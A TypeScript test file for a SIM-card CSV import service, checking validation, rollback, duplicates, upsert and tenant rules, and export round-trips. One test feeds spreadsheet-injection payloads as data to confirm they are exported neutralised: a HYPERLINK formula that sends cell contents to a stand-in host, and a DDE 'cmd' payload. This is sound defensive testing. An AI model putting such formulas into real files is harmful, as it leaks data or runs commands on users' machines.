import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Harness, harness, makeTenant, type Tenant, uniq } from '../../../../test/support/harness.ts';
import { cliPrincipal } from '../../../platform/auth.ts';
import { isAppError } from '../../../platform/errors.ts';
import { ImportErrors as E } from './import.errors.ts';
import { MAX_LISTED_READ_ERRORS } from './import.repo.ts';
import { addPlans, type CsvLine, toCsv, validLines } from './import.test-support.ts';
import { fakeSim, randomBase } from './sim-fixtures.ts';

let h: Harness;
let t: Tenant;
let plans: Awaited<ReturnType<typeof addPlans>>;
const staff = cliPrincipal('import-test');
const COLS = ['iccid', 'imsi', 'msisdn', 'imei', 'account'];

beforeAll(async () => {
  h = await harness();
  t = await makeTenant(h.services);
  plans = await addPlans(h.ctx.database, t.root.id, t.root.id, uniq());
});
afterAll(() => h.close());

const svc = () => h.services.simImports;
const countSims = async (iccids: string[]) => {
  const [r] = await h.ctx.database.query<{ n: number }>(
    'SELECT count(*)::int AS n FROM sims WHERE iccid = ANY($1::text[])',
    [iccids.map((i) => i.slice(0, 19))],
  );
  return r!.n;
};
const errorsOf = (id: number) => svc().jobs.errors(id, 0, 1000);

async function rejection(p: Promise<unknown>) {
  try {
    await p;
  } catch (e) {
    if (isAppError(e)) return e;
    throw e;
  }
  throw new Error('expected a rejection');
}

describe('SIM import service', () => {
  it('imports valid lines with plans, state, label, custom fields and multiple IMSIs', async () => {
    const lines = validLines(t.child.number, 3, {
      communication_plan: plans.comm.name,
      rate_plan: plans.rate.name,
      state: 'TEST_READY',
      label: 'fleet, north "A"',
      'custom.site': 'Kiruna',
    });
    const second = fakeSim(randomBase()).imsi;
    lines[0]!.imsi = `${lines[0]!.imsi};${second}`;
    const { job, code } = await svc().importCsv(
      staff,
      toCsv([...COLS, 'communication_plan', 'rate_plan', 'state', 'label', 'custom.site'], lines),
      { mode: 'atomic', upsert: false },
    );
    expect(code).toBeNull();
    expect(job).toMatchObject({ status: 'succeeded', rowsRead: 3, rowsImported: 3, rowsRejected: 0 });
    const rows = await h.ctx.database.query<Record<string, unknown>>(
      `SELECT s.account_id::int AS "accountId", s.tenant_id::int AS "tenantId", s.state, s.labels,
         s.custom_fields AS "custom", s.communication_plan_id::int AS "comm", s.rate_plan_id::int AS "rate",
         s.import_id::int AS "importId", (SELECT array_agg(imsi ORDER BY position) FROM sim_imsis WHERE sim_id = s.id) AS imsis
       FROM sims s WHERE s.iccid = $1`,
      [lines[0]!.iccid!.slice(0, 19)],
    );
    expect(rows[0]).toMatchObject({
      accountId: t.child.id,
      tenantId: t.root.id,
      state: 'TEST_READY',
      labels: ['fleet, north "A"'],
      custom: { site: 'Kiruna' },
      comm: plans.comm.id,
      rate: plans.rate.id,
      importId: job.id,
      imsis: [lines[0]!.imsi!.split(';')[0], second],
    });
  });

  it('atomic: one bad line rolls everything back and the report names line, field and value', async () => {
    const lines = validLines(t.child.number, 4);
    lines[2]!.iccid = '8946000000000000001'.replace(/1$/, 'X');
    lines[3]!.account = 'NO-SUCH-ACCOUNT';
    const { job, code } = await svc().importCsv(staff, toCsv(COLS, lines), { mode: 'atomic', upsert: false });
    expect(code).toBe(E.rowsInvalid);
    expect(job).toMatchObject({ status: 'failed', rowsRead: 4, rowsImported: 0, rowsRejected: 2 });
    expect(await countSims(lines.map((l) => l.iccid!))).toBe(0);
    expect(await errorsOf(job.id)).toEqual([
      { line: 4, field: 'iccid', value: lines[2]!.iccid, reason: 'must be digits only' },
      { line: 5, field: 'account', value: 'NO-SUCH-ACCOUNT', reason: 'no account with this number' },
    ]);
  });

  it('a quote never closed is named on the line it opens, not the end of the file (issue 13 probe: line 100,001 for 50,002)', async () => {
    const lines = validLines(t.child.number, 3);
    const csv = `${toCsv(
      ['iccid', 'account'],
      lines.map((l) => ({ iccid: l.iccid!, account: l.account! })),
    )}"8946,open\n${'a,b\n'.repeat(20)}`;
    const e = await rejection(svc().importCsv(staff, csv, { mode: 'atomic', upsert: false }));
    expect(e).toMatchObject({
      code: E.csvMalformed,
      details: [{ line: 5, reason: expect.stringMatching(/^the record starting on line 5 opens a quoted field/) }],
    });
  });

  it('skip-invalid imports the good lines and reports the bad ones', async () => {
    const lines = validLines(t.child.number, 3);
    lines[1]!.msisdn = '0701234567';
    const { job } = await svc().importCsv(staff, toCsv(COLS, lines), { mode: 'skip-invalid', upsert: false });
    expect(job).toMatchObject({ status: 'succeeded', rowsImported: 2, rowsRejected: 1 });
    expect(await countSims([lines[0]!.iccid!, lines[2]!.iccid!])).toBe(2);
    expect(await countSims([lines[1]!.iccid!])).toBe(0);
    expect(await errorsOf(job.id)).toEqual([
      { line: 3, field: 'msisdn', value: '0701234567', reason: expect.stringContaining('never start with 0') },
    ]);
  });

  it('reports duplicates within the file (naming the earlier line) and against the database', async () => {
    const existing = validLines(t.child.number, 1);
    await svc().importCsv(staff, toCsv(COLS, existing), { mode: 'atomic', upsert: false });
    const lines = validLines(t.child.number, 3);
    lines[2]!.iccid = lines[0]!.iccid!.slice(0, 19); // same SIM, written without its check digit
    lines[1]!.msisdn = existing[0]!.msisdn!;
    const { job, code } = await svc().importCsv(staff, toCsv(COLS, lines), { mode: 'atomic', upsert: false });
    expect(code).toBe(E.duplicates);
    expect(job).toMatchObject({ status: 'failed', rowsRejected: 2, rowsImported: 0 });
    const errs = await errorsOf(job.id);
    expect(errs).toContainEqual({
      line: 4,
      field: 'iccid',
      value: lines[2]!.iccid,
      reason: 'duplicate of line 2 in this file',
    });
    expect(errs).toContainEqual({
      line: 3,
      field: 'msisdn',
      value: existing[0]!.msisdn,
      reason: expect.stringMatching(/^already used by SIM id \d+$/),
    });
    expect(await countSims(lines.map((l) => l.iccid!))).toBe(0);

    const again = await svc().importCsv(staff, toCsv(COLS, existing), { mode: 'skip-invalid', upsert: false });
    expect(again.job).toMatchObject({ rowsImported: 0, rowsRejected: 1 });
    expect((await errorsOf(again.job.id)).map((e) => e.field).sort()).toEqual(['iccid', 'imsi', 'msisdn']);
  });

  it('unknown plan and unknown column are rejected with the name', async () => {
    const lines = validLines(t.child.number, 1, { rate_plan: 'Gold Unlimited' });
    const { job } = await svc().importCsv(staff, toCsv([...COLS, 'rate_plan'], lines), {
      mode: 'atomic',
      upsert: false,
    });
    expect(await errorsOf(job.id)).toEqual([
      {
        line: 2,
        field: 'rate_plan',
        value: 'Gold Unlimited',
        reason: `no rate plan with this name is available to account ${t.child.number}`,
      },
    ]);
    const err = await rejection(svc().importCsv(staff, 'iccid,account,imsii\n', { mode: 'atomic', upsert: false }));
    expect(err.code).toBe(E.headerInvalid);
    expect(err.details[0]).toMatchObject({ line: 1, field: 'imsii', value: 'imsii' });
    const missing = await rejection(svc().importCsv(staff, 'iccid\n', { mode: 'atomic', upsert: false }));
    expect(missing.details).toEqual([{ line: 1, field: 'account', value: null, reason: 'required column missing' }]);
  });

  it('upsert updates the listed fields; an identifier of another SIM is still an error', async () => {
    const lines = validLines(t.child.number, 2);
    await svc().importCsv(staff, toCsv(COLS, lines), { mode: 'atomic', upsert: false });
    const update: CsvLine[] = [
      { iccid: lines[0]!.iccid!, account: t.root.number, state: 'ACTIVATED', 'custom.po': 'PO-1' },
      { iccid: lines[1]!.iccid!, account: t.child.number, msisdn: lines[0]!.msisdn! },
    ];
    const cols = ['iccid', 'account', 'state', 'msisdn', 'custom.po'];
    const refused = await svc().importCsv(staff, toCsv(cols, update), { mode: 'atomic', upsert: true });
    expect(refused.job).toMatchObject({ status: 'failed', rowsRejected: 1 });
    expect(await errorsOf(refused.job.id)).toEqual([
      { line: 3, field: 'msisdn', value: lines[0]!.msisdn, reason: expect.stringMatching(/^already used by SIM id/) },
    ]);
    const ok = await svc().importCsv(staff, toCsv(cols, update.slice(0, 1)), { mode: 'atomic', upsert: true });
    expect(ok.job).toMatchObject({ status: 'succeeded', rowsImported: 0, rowsUpdated: 1 });
    const [row] = await h.ctx.database.query<Record<string, unknown>>(
      `SELECT account_id::int AS "accountId", state, msisdn, imei, custom_fields AS custom,
         (SELECT count(*)::int FROM sim_audit a WHERE a.sim_id = s.id AND a.action = 'import.update') AS audits
       FROM sims s WHERE iccid = $1`,
      [lines[0]!.iccid!.slice(0, 19)],
    );
    expect(row).toEqual({
      accountId: t.root.id,
      state: 'ACTIVATED',
      msisdn: lines[0]!.msisdn,
      imei: lines[0]!.imei,
      custom: { po: 'PO-1' },
      audits: 1,
    });
  });

  it('upsert never moves a SIM to another customer; within one it keeps only plans the new account may use', async () => {
    const other = await makeTenant(h.services);
    const cols = ['iccid', 'account', 'communication_plan', 'rate_plan'];
    const [theirs] = validLines(other.child.number, 1);
    expect((await svc().importCsv(staff, toCsv(COLS, [theirs!]), { mode: 'atomic', upsert: false })).job.status).toBe(
      'succeeded',
    );
    const grab = [{ iccid: theirs!.iccid!, account: t.child.number }];
    const refused = await svc().importCsv(staff, toCsv(['iccid', 'account'], grab), { mode: 'atomic', upsert: true });
    expect(refused.job).toMatchObject({ status: 'failed', rowsRejected: 1 });
    expect(await errorsOf(refused.job.id)).toEqual([
      { line: 2, field: 'account', value: theirs!.iccid, reason: expect.stringMatching(/belongs to another customer/) },
    ]);
    const [still] = await h.ctx.database.query<{ accountId: number }>(
      'SELECT account_id::int AS "accountId" FROM sims WHERE iccid = $1',
      [theirs!.iccid!.slice(0, 19)],
    );
    expect(still!.accountId).toBe(other.child.id);

    // Plans only the child account has: moving its SIM up to the root must name plans the root may use.
    const childPlans = await addPlans(h.ctx.database, t.child.id, t.root.id, uniq());
    const [mine] = validLines(t.child.number, 1, {
      communication_plan: childPlans.comm.name,
      rate_plan: childPlans.rate.name,
    });
    const first = await svc().importCsv(staff, toCsv([...COLS, 'communication_plan', 'rate_plan'], [mine!]), {
      mode: 'atomic',
      upsert: false,
    });
    expect(first.job.status).toBe('succeeded');
    const up = [{ iccid: mine!.iccid!, account: t.root.number, communication_plan: '', rate_plan: '' }];
    const keepsPlans = await svc().importCsv(staff, toCsv(cols, up), { mode: 'atomic', upsert: true });
    expect(keepsPlans.job).toMatchObject({ status: 'failed', rowsRejected: 1 });
    expect((await errorsOf(keepsPlans.job.id)).map((e) => e.field)).toEqual(['communication_plan', 'rate_plan']);
    const named = [{ ...up[0]!, communication_plan: plans.comm.name, rate_plan: plans.rate.name }];
    const moved = await svc().importCsv(staff, toCsv(cols, named), { mode: 'atomic', upsert: true });
    expect(moved.job).toMatchObject({ status: 'succeeded', rowsUpdated: 1 });
  });

  it('skip-invalid lists the first 10,000 refused lines and counts the rest', async () => {
    const good = validLines(t.child.number, 2);
    const bad = Array.from({ length: MAX_LISTED_READ_ERRORS + 50 }, () => ({
      iccid: '123',
      imsi: '',
      msisdn: '',
      imei: '',
      account: t.child.number,
    }));
    const { job } = await svc().importCsv(staff, toCsv(COLS, [good[0]!, ...bad, good[1]!]), {
      mode: 'skip-invalid',
      upsert: false,
    });
    expect(job).toMatchObject({ status: 'succeeded', rowsImported: 2, rowsRejected: MAX_LISTED_READ_ERRORS + 50 });
    const listed = await svc().jobs.errors(job.id, 0, 20_000);
    expect(listed).toHaveLength(MAX_LISTED_READ_ERRORS + 1);
    expect(listed.at(-1)).toMatchObject({
      field: '(import)',
      reason: expect.stringMatching(/the rest only counted/),
    });
  });

  it('malformed CSV names the line; an empty file is refused', async () => {
    const lines = validLines(t.child.number, 1);
    const csv = `${toCsv(COLS, lines)}"8946,unterminated\n`;
    const err = await rejection(svc().importCsv(staff, csv, { mode: 'atomic', upsert: false }));
    expect(err.code).toBe(E.csvMalformed);
    expect(err.message).toMatch(/line 3/);
    expect(await countSims([lines[0]!.iccid!])).toBe(0);
    expect((await rejection(svc().importCsv(staff, '', { mode: 'atomic', upsert: false }))).code).toBe(E.empty);
  });

  it('export → import round-trips (customers export only their subtree)', async () => {
    const mine = validLines(t.child.number, 3, { rate_plan: plans.rate.name, label: 'x;y', 'custom.k': 'v' });
    mine[0]!.imsi = `${mine[0]!.imsi};${fakeSim(randomBase()).imsi}`;
    const cols = [...COLS, 'rate_plan', 'label', 'custom.k'];
    await svc().importCsv(staff, toCsv(cols, mine), { mode: 'atomic', upsert: false });
    const out = await text(await h.services.simExports.exportCsv(staff, { accountId: t.child.id }));
    const records = parse(out, { columns: true }) as Record<string, string>[];
    for (const l of mine) {
      expect(records).toContainEqual(
        expect.objectContaining({ ...l, communication_plan: '', rate_plan: plans.rate.name, state: 'INVENTORY' }),
      );
    }
    const back = await svc().importCsv(staff, out, { mode: 'atomic', upsert: true });
    expect(back.job).toMatchObject({ status: 'succeeded', rowsRead: records.length, rowsUpdated: records.length });
    const again = await text(await h.services.simExports.exportCsv(staff, { accountId: t.child.id }));
    expect(again).toBe(out);
  });

  it('exports formulas spreadsheet-safe (a leading apostrophe) and imports them back as they were', async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(A1)', '-5'];
    const lines: CsvLine[] = validLines(t.child.number, formulas.length).map((l, i) => ({
      ...l,
      label: formulas[i]!,
      'custom.note': formulas[(i + 1) % formulas.length]!,
    }));
    const cols = [...COLS, 'label', 'custom.note'];
    expect((await svc().importCsv(staff, toCsv(cols, lines), { mode: 'atomic', upsert: false })).job.status).toBe(
      'succeeded',
    );
    const stored = () =>
      h.ctx.database.query<{ label: string; note: string }>(
        `SELECT labels[1] AS label, custom_fields->>'note' AS note FROM sims WHERE iccid = ANY($1::text[]) ORDER BY iccid`,
        [lines.map((l) => l.iccid!.slice(0, 19))],
      );
    const first = await stored();
    expect(first.map((r) => r.label).sort()).toEqual([...formulas].sort());
    const iccids = new Set(lines.map((l) => l.iccid));
    const out = await text(await h.services.simExports.exportCsv(staff, { accountId: t.child.id }));
    const mine = (parse(out, { columns: true }) as Record<string, string>[]).filter((r) => iccids.has(r.iccid!));
    expect(mine).toHaveLength(formulas.length);
    for (const r of mine) expect([r.label![0], r['custom.note']![0]]).toEqual(["'", "'"]);
    // Back in, each apostrophe comes off again: the SIMs are as they were.
    expect((await svc().importCsv(staff, out, { mode: 'atomic', upsert: true })).job.status).toBe('succeeded');
    expect(await stored()).toEqual(first);
  });

  it('across chunk boundaries: a late duplicate undoes the fast path (atomic) or only skips its line', async () => {
    const lines = validLines(t.child.number, 7);
    lines[5]!.msisdn = lines[0]!.msisdn!; // line 7 repeats line 2, two chunks later
    const csv = toCsv(COLS, lines);
    const atomic = await svc().importCsv(staff, csv, { mode: 'atomic', upsert: false, chunkRows: 2 });
    expect(atomic.job).toMatchObject({ status: 'failed', rowsImported: 0, rowsRejected: 1 });
    expect(await errorsOf(atomic.job.id)).toEqual([
      { line: 7, field: 'msisdn', value: lines[0]!.msisdn, reason: 'duplicate of line 2 in this file' },
    ]);
    expect(await countSims(lines.map((l) => l.iccid!))).toBe(0);

    const skip = await svc().importCsv(staff, csv, { mode: 'skip-invalid', upsert: false, chunkRows: 2 });
    expect(skip.job).toMatchObject({ status: 'succeeded', rowsImported: 6, rowsRejected: 1 });
    expect(await countSims(lines.map((l) => l.iccid!))).toBe(6);
    const [imsis] = await h.ctx.database.query<{ n: number }>(
      'SELECT count(*)::int AS n FROM sim_imsis WHERE imsi = ANY($1::text[])',
      [lines.map((l) => l.imsi)],
    );
    expect(imsis!.n).toBe(6);
  });

  it('atomic: a bad line in a late chunk removes what the fast path already wrote', async () => {
    const lines = validLines(t.child.number, 6);
    lines[5]!.eid = '123';
    const { job } = await svc().importCsv(staff, toCsv([...COLS, 'eid'], lines), {
      mode: 'atomic',
      upsert: false,
      chunkRows: 2,
    });
    expect(job).toMatchObject({ status: 'failed', rowsRejected: 1 });
    expect(await countSims(lines.map((l) => l.iccid!))).toBe(0);
  });
});
